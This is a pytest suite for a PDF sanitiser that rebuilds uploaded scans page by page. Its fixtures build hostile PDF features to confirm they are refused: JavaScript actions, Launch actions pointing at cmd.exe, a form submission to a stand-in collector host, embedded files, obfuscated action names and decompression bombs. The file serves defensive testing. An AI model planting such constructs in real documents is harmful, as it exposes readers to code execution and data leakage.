"""A PDF is rewritten as its pages; what a reader could run or unpack is refused."""

from __future__ import annotations

import zlib
from io import BytesIO
from typing import Any

import pikepdf
import pypdfium2
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from services.directory.papers.documents import MAX_PAGES, clean_pdf
from shared.errors import Invalid
from tests.support.evidence_examples import AGREEMENT, SECRET, jpeg, page_with, pdf, pdf_of, saved, written


def refused(data: bytes) -> str:
    with pytest.raises(Invalid) as caught:
        clean_pdf(data)
    assert caught.value.field == "content"
    return caught.value.code


def shown(data: bytes, *, grey: bool = False) -> list[bytes]:
    """What every page looks like, values of form fields included: those are drawn with coloured edges."""
    with pypdfium2.PdfDocument(data) as document:
        document.init_forms()
        return [page.render(scale=1, grayscale=grey).to_pil().tobytes() for page in document]


def test_a_scan_keeps_its_pages_and_loses_its_notes() -> None:
    data = pdf(3)
    cleaned = clean_pdf(data)
    assert shown(cleaned) == shown(data)
    with pikepdf.open(BytesIO(cleaned)) as made:
        assert len(made.pages) == 3
        assert dict(made.docinfo) == {}
        assert set(made.Root.keys()) == {"/Type", "/Pages"}
        assert {key for page in made.pages for key in page.obj.keys()} == {  # noqa: SIM118  # a page is no mapping
            "/Type",
            "/Parent",
            "/MediaBox",
            "/Resources",
            "/Contents",
        }
    assert SECRET in data
    assert SECRET not in cleaned


def test_the_photograph_inside_a_scan_is_cleaned_and_not_coded_anew() -> None:
    with pikepdf.open(BytesIO(clean_pdf(pdf()))) as made:
        photograph = made.pages[0].Resources.XObject.Scan.read_raw_bytes()
    assert photograph.startswith(b"\xff\xd8")
    assert photograph[photograph.index(b"\xff\xdb") :] in jpeg()


def test_cleaning_twice_changes_nothing_and_the_same_file_gives_the_same_bytes() -> None:
    data = pdf(2)
    assert clean_pdf(data) == clean_pdf(data)
    assert clean_pdf(clean_pdf(data)) == clean_pdf(data)


def test_inherited_page_attributes_stay() -> None:
    made = pdf_of(2)
    for page in made.pages:
        del page.obj["/MediaBox"]
    made.Root.Pages.MediaBox = Array([0, 0, 300, 200])
    made.Root.Pages.Rotate = 90
    data = saved(made)
    assert shown(clean_pdf(data)) == shown(data)


def test_object_streams_and_earlier_versions_are_read_and_gone() -> None:
    data = saved(pdf_of(), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/ObjStm" in data
    cleaned = clean_pdf(data)
    assert b"/ObjStm" not in cleaned
    assert shown(cleaned) == shown(data)
    assert clean_pdf(pdf()) == cleaned


def test_the_look_of_a_seal_becomes_part_of_its_page() -> None:
    made = pdf_of()
    page = made.pages[0]
    seal = made.make_stream(b"1 0 0 rg 0 0 50 50 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 50, 50])
    page.Annots = made.make_indirect(
        Array(
            [
                made.make_indirect(
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.Stamp,
                        Rect=[200, 100, 250, 150],
                        F=4,
                        AP=Dictionary(N=seal),
                        Contents=String(SECRET.decode()),
                    )
                )
            ]
        )
    )
    data = saved(made)
    cleaned = clean_pdf(data)
    assert shown(cleaned) == shown(data) != shown(pdf())
    assert b"/Annot" not in cleaned
    assert SECRET not in cleaned


@pytest.mark.parametrize(
    "data",
    [
        written(page_with(AGREEMENT, length=b"")),
        written(page_with(AGREEMENT, length=b"/Length 3")),
        written(page_with(AGREEMENT, length=b"/Length 300")),
        written(page_with(AGREEMENT, length=b"/Length 9 0 R")),
        written(page_with(AGREEMENT), shift=7),
        written(page_with(AGREEMENT)).replace(b"startxref\n", b"startxref\n9"),
        written(page_with(AGREEMENT)).replace(b"\nstream\n", b"\nstream\r"),
        b"%PDF-1.7\n" + written(page_with(AGREEMENT))[9:].split(b"xref\n", 1)[0] + b"trailer\n<</Root 1 0 R>>\n%%EOF",
    ],
    ids=["no length", "short", "long", "length nowhere", "offsets", "table", "line end", "no table"],
)
def test_what_viewers_recover_from_a_damaged_file_is_kept(data: bytes) -> None:
    cleaned = clean_pdf(data)
    assert shown(cleaned) == shown(written(page_with(AGREEMENT)))
    assert clean_pdf(cleaned) == cleaned
    assert clean_pdf(data) == cleaned


@pytest.mark.parametrize(
    "data",
    [
        written(page_with(AGREEMENT)).replace(b"5 0 obj", b"x y obj"),
        written(page_with(AGREEMENT)).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[3 0 R 8 0 R]/Count 2"),
    ],
    ids=["content", "page"],
)
def test_a_file_that_lost_what_stood_on_a_page_is_refused(data: bytes) -> None:
    assert refused(data) == "evidence.broken"


def with_field(field: bytes, *, regenerate: bytes = b"true", extra: bytes = b"") -> bytes:
    """A page with a form field."""
    form = b"/AcroForm<</NeedAppearances %b/Fields[7 0 R]/DR<</Font<</F1 4 0 R>>>>/DA(/F1 14 Tf 0 g)>>" % regenerate
    bodies = page_with(AGREEMENT, page=b"/Annots[7 0 R]", catalogue=form + extra)
    at = b"/Type/Annot/Subtype/Widget/Rect[20 40 200 70]/F 4/P 3 0 R/T(salary)"
    return written([*bodies, b"null", b"<<%b%b>>" % (at, field), _LOOK])


_LOOK = b"<</Type/XObject/Subtype/Form/BBox[0 0 180 30]/Length 20>>\nstream\n0 0 1 rg 0 0 90 9 re f\nendstream"
_VALUE = b"/FT/Tx/V(6500)/DA(/F1 14 Tf 0 g)"


@pytest.mark.parametrize(
    "data",
    [
        with_field(_VALUE),
        with_field(_VALUE, regenerate=b"false"),
        with_field(b"/FT/Btn/V/Yes/AS/Yes/AP<</N<</Yes 8 0 R>>>>"),
        with_field(_VALUE + b"/AP<</N 8 0 R>>", regenerate=b"false"),
    ],
    ids=["drawn by viewers", "drawn by some viewers", "box", "drawn in the file"],
)
def test_the_value_of_a_form_field_stays_visible(data: bytes) -> None:
    cleaned = clean_pdf(data)
    assert shown(data, grey=True) != shown(written(page_with(AGREEMENT)), grey=True)
    assert shown(cleaned, grey=True) == shown(data, grey=True)
    assert b"/Annot" not in cleaned
    assert b"/AcroForm" not in cleaned
    assert clean_pdf(cleaned) == cleaned
    assert clean_pdf(data) == cleaned


def test_a_form_that_only_its_maker_s_program_draws_is_refused() -> None:
    assert refused(with_field(_VALUE, extra=b"/NeedsRendering true")) == "evidence.looks"


KINDS = [
    b"/Ink/InkList[[30 30 60 80 90 40]]", b"/FreeText/DA(/F1 12 Tf)/Contents(6500)", b"/Stamp/Name/Approved",
    b"/Line/L[30 30 100 60]", b"/Square", b"/Circle", b"/Polygon/Vertices[20 20 90 90 100 30]",
    b"/PolyLine/Vertices[20 20 90 90 100 30]", b"/Highlight/QuadPoints[20 100 200 100 20 20 200 20]",
    b"/Text/Contents(note)",
]  # fmt: skip


def with_annotation(kind: bytes, flags: bytes) -> bytes:
    """A page with a note whose look only viewers know."""
    note = b"<</Type/Annot/F %b/Rect[20 20 200 100]/C[1 1 0]/Subtype%b>>" % (flags, kind)
    return written([*page_with(AGREEMENT, page=b"/Annots[6 0 R]"), note])


@pytest.mark.parametrize("kind", KINDS)
def test_ink_and_notes_that_only_viewers_draw_are_refused_and_not_lost(kind: bytes) -> None:
    with pytest.raises(Invalid) as caught:
        clean_pdf(with_annotation(kind, b"4"))
    assert (caught.value.code, caught.value.details["page"]) == ("evidence.looks", 1)


@pytest.mark.parametrize("kind", KINDS)
def test_a_hidden_note_stays_unseen(kind: bytes) -> None:
    data = with_annotation(kind, b"2")
    assert shown(clean_pdf(data)) == shown(data) == shown(written(page_with(AGREEMENT)))


DRAFT = AGREEMENT + b" /OC /L1 BDC BT /F1 18 Tf 20 50 Td (DRAFT) Tj ET EMC"


def with_layer(settings: bytes, layer: bytes = b"<</Type/OCG/Name(draft)>>") -> bytes:
    """A page with a line on a layer."""
    layers = b"/OCProperties<</OCGs[6 0 R]/D<<%b>>>>" % settings
    return written([*page_with(DRAFT, catalogue=layers), layer])


@pytest.mark.parametrize(
    "data",
    [
        with_layer(b"/OFF[6 0 R]"),
        with_layer(b"/BaseState/OFF"),
        with_layer(b"", b"<</Type/OCMD/OCGs[6 0 R]/P/AllOff>>"),
        with_layer(b"", b"<</Type/OCMD/VE[/Not 6 0 R]>>"),
    ],
    ids=["off", "all off", "shown when others are not", "by a rule"],
)
def test_a_hidden_layer_is_refused_and_never_becomes_visible(data: bytes) -> None:
    assert refused(data) == "evidence.layers"


@pytest.mark.parametrize("settings", [b"", b"/ON[6 0 R]/OFF[]/BaseState/ON"])
def test_a_layer_that_is_shown_stays_visible(settings: bytes) -> None:
    data = with_layer(settings)
    cleaned = clean_pdf(data)
    assert shown(cleaned) == shown(data) != shown(written(page_with(AGREEMENT)))
    assert b"/OCProperties" not in cleaned


def test_what_is_only_printed_does_not_become_visible() -> None:
    look = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 20>>\nstream\n0 0 1 rg 0 0 90 9 re f\nendstream"
    note = b"<</Type/Annot/Subtype/Stamp/F 36/Rect[20 20 200 100]/AP<</N 7 0 R>>>>"
    data = written([*page_with(AGREEMENT, page=b"/Annots[6 0 R]"), note, look])
    assert refused(data) == "evidence.looks"


def scripted(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def scripted_by_name(made: Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array()))


def scripted_in_a_page(made: Pdf) -> None:
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript))


def attached(made: Pdf) -> None:
    made.attachments["a.txt"] = b"hello"


def attached_to_a_page(made: Pdf) -> None:
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 1, 1])])


def kept_elsewhere(made: Pdf) -> None:
    made.pages[0].Contents.F = String("other.pdf")


def launching(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def launching_when_touched(made: Pdf) -> None:
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 1, 1], A=action)])


def sending(made: Pdf) -> None:
    made.Root.AA = Dictionary(WC=Dictionary(S=Name.SubmitForm, F=String("http://collector.example")))


def enormous(made: Pdf) -> None:
    made.pages[0].Resources.XObject.Scan.Width = 100_000


def without_area(made: Pdf) -> None:
    made.pages[0].Resources.XObject.Scan.Width = 0


def without_size(made: Pdf) -> None:
    del made.pages[0].Resources.XObject.Scan.Width


def no_photograph(made: Pdf) -> None:
    made.pages[0].Resources.XObject.Scan.write(b"none", filter=Name.DCTDecode)


def without_pages(made: Pdf) -> None:
    del made.pages[0]


@pytest.mark.parametrize(
    ("spoil", "code"),
    [
        (scripted, "evidence.script"),
        (scripted_by_name, "evidence.script"),
        (scripted_in_a_page, "evidence.script"),
        (attached, "evidence.attachment"),
        (attached_to_a_page, "evidence.attachment"),
        (kept_elsewhere, "evidence.attachment"),
        (launching, "evidence.action"),
        (launching_when_touched, "evidence.action"),
        (sending, "evidence.action"),
        (enormous, "evidence.too_many_pixels"),
        (without_area, "evidence.broken"),
        (without_size, "evidence.broken"),
        (no_photograph, "evidence.broken"),
        (without_pages, "evidence.broken"),
    ],
)
@pytest.mark.parametrize("mode", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_what_is_no_scan_is_refused(spoil: Any, code: str, mode: pikepdf.ObjectStreamMode) -> None:
    made = pdf_of()
    spoil(made)
    assert refused(saved(made, object_stream_mode=mode)) == code


@pytest.mark.parametrize("coding", [b"/LZWDecode", b"/LZW#44ecode", b"/Crypt", b"[/Crypt]", b"/Unknown"])
def test_a_coding_that_scans_do_not_use_is_refused(coding: bytes) -> None:
    usual = b"/Filter /FlateDecode"
    assert refused(pdf().replace(usual, (b"/Filter " + coding).ljust(len(usual)))) == "evidence.unsupported"


def test_a_name_written_in_another_way_is_the_same_name() -> None:
    made = pdf_of()
    launching(made)
    # As long as the name it stands for with a shorter title before it: no offset moves.
    made.Root.OpenAction.T = String("12345678")
    data = saved(made).replace(b"/S /Launch /T (12345678)", b"/S /L#61unch /T (123456)")
    assert b"#61" in data
    assert refused(data) == "evidence.action"


@pytest.mark.parametrize("password", ["", "secret"])
def test_an_encrypted_file_is_refused(password: str) -> None:
    encryption = pikepdf.Encryption(user=password, owner="owner")
    assert refused(saved(pdf_of(), encryption=encryption)) == "evidence.encrypted"


def test_a_file_encrypted_in_an_unknown_way_is_refused_as_encrypted() -> None:
    data = written(page_with(AGREEMENT)).replace(
        b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Some/V 9>>/ID[<00><00>]"
    )
    assert refused(data) == "evidence.encrypted"


def test_too_many_pages_are_refused() -> None:
    assert len(shown(clean_pdf(pdf(MAX_PAGES)))) == MAX_PAGES
    assert refused(pdf(MAX_PAGES + 1)) == "evidence.too_many_pages"


def test_a_file_cut_off_anywhere_is_refused() -> None:
    data = pdf().rstrip()
    for length in range(5, len(data), 97):
        assert refused(data[:length]) == "evidence.broken"


@pytest.mark.parametrize("extra", [b"PK\x03\x04", b"<script>", b"MZ", SECRET])
def test_a_file_behind_the_last_page_is_refused(extra: bytes) -> None:
    assert refused(pdf() + extra) == "evidence.mixed"
    assert clean_pdf(pdf() + b"\r\n\x00") == clean_pdf(pdf())


def test_a_stream_that_inflates_without_end_is_refused() -> None:
    made = pdf_of()
    made.pages[0].Contents.write(zlib.compress(bytes(300_000_000), 1), filter=Name.FlateDecode)
    assert refused(saved(made)) == "evidence.too_complex"


def packed(padding: int, filters: bytes, wrap: Any = bytes) -> bytes:
    """A page whose catalogue lies in a stream of objects beside so many blanks."""
    objects = wrap(zlib.compress(b"1 0 <</Type/Catalog/Pages 4 0 R>>" + b" " * padding, 1))
    bodies = {
        2: b"<</Type/ObjStm/N 1/First 4/Filter%b/Length %d>>stream\n%b\nendstream" % (filters, len(objects), objects),
        4: b"<</Type/Pages/Count 1/Kids[5 0 R]>>",
        5: b"<</Type/Page/Parent 4 0 R/MediaBox[0 0 300 200]/Resources<<>>>>",
    }
    data, entries = b"%PDF-1.7\n", {0: (0, 0), 1: (2, 2)}
    for number, body in bodies.items():
        entries[number] = (1, len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    entries[3] = (1, len(data))
    table = b"".join(b"%c%b\x00" % (kind, at.to_bytes(4, "big")) for _, (kind, at) in sorted(entries.items()))
    head = b"<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    return data + b"3 0 obj\n%bstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, table, len(data))


def test_objects_that_unpack_to_too_much_are_refused_before_they_fill_the_memory() -> None:
    assert len(shown(clean_pdf(packed(10, b"/FlateDecode")))) == 1
    assert refused(packed(60_000_000, b"/FlateDecode")) == "evidence.broken"


def test_objects_behind_a_chain_of_filters_are_refused() -> None:
    """Nobody could count what they unpack to before the library does."""
    assert refused(packed(10, b"[/ASCIIHexDecode/FlateDecode]", lambda raw: raw.hex().encode() + b">")) == (
        "evidence.broken"
    )


def test_a_tree_without_end_is_refused() -> None:
    made = pdf_of()
    made.Root.Extra = Array([Array([Dictionary(A=number)]) for number in range(30_000)])
    assert refused(saved(made)) == "evidence.too_complex"
